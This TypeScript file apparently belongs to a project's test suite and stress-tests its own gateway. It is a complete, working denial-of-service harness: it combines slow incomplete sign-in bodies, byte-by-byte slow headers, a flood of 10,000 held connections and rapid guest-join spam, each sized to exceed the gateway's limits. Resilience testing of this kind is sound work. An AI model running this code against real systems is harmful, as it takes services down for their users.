import { connect, type Socket } from 'node:net'
import { setTimeout as delay } from 'node:timers/promises'
import { inParallel } from '../../in-parallel.ts'

/** Attacks from one address (arguments: gateway, slug of a line) until the process ends; runs as a separate process. */
const [gateway = '', slug = ''] = process.argv.slice(2)
const { hostname: host, port } = new URL(gateway)

/**
 * Sign-ins with the longest allowed body, without its last byte: more than the gateway has memory for, or accepts from
 * one address.
 */
const SLOW_BODIES = 732
const BODY_BYTES = 15_900
const SLOW_HEADERS = 300
/** Opened in six seconds, as a single machine can. */
const CONNECTIONS = 10_000
const OPENED_AT_ONCE = 100
const OPENED_EVERY_MS = 60
/** Reopens closed connections. */
const AGAIN_EVERY_MS = 30_000
const HEADER_BYTE_EVERY_MS = 1_000
/** 200 guests in 8.6 s. */
const JOIN_EVERY_MS = 43

/** Opens a connection that writes the given bytes and never closes. */
function holdOpen(bytes = ''): Socket {
  const socket = connect({ host, port: Number(port), allowHalfOpen: true })
  socket.on('error', () => {}).resume()
  if (bytes !== '') socket.write(bytes)
  return socket
}

const slowBody = () => {
  const fields = `host: a\r\ncontent-type: application/json\r\ncontent-length: ${BODY_BYTES}`
  return holdOpen(`POST /account/sign-in HTTP/1.1\r\n${fields}\r\n\r\n${'x'.repeat(BODY_BYTES - 1)}`)
}

async function slowHeaders(): Promise<never> {
  for (;;) {
    const socket = holdOpen('GET / HTTP/1.1\r\nhost: a\r\nx: ')
    while (!socket.destroyed && socket.writable) {
      await delay(HEADER_BYTE_EVERY_MS)
      socket.write('x')
    }
    socket.destroy()
  }
}

async function again(attack: () => Promise<Socket[]>): Promise<never> {
  for (;;) {
    const held = await attack()
    await delay(AGAIN_EVERY_MS)
    for (const socket of held) socket.destroy()
  }
}

async function floodOfConnections(): Promise<Socket[]> {
  const held: Socket[] = []
  while (held.length < CONNECTIONS) {
    for (let i = 0; i < OPENED_AT_ONCE; i += 1) held.push(holdOpen())
    await delay(OPENED_EVERY_MS)
  }
  return held
}

async function joins(): Promise<never> {
  for (let i = 0; ; i += 1) {
    const body = JSON.stringify({ name: `Guest ${i}` })
    const headers = { 'content-type': 'application/json' }
    void fetch(`${gateway}/public/join/${slug}`, { method: 'POST', headers, body }).then(
      (answer) => answer.bytes(),
      () => {},
    )
    await delay(JOIN_EVERY_MS)
  }
}

await Promise.all([
  again(async () => Array.from({ length: SLOW_BODIES }, slowBody)),
  again(floodOfConnections),
  joins(),
  inParallel(Array.from({ length: SLOW_HEADERS }), SLOW_HEADERS, slowHeaders),
])
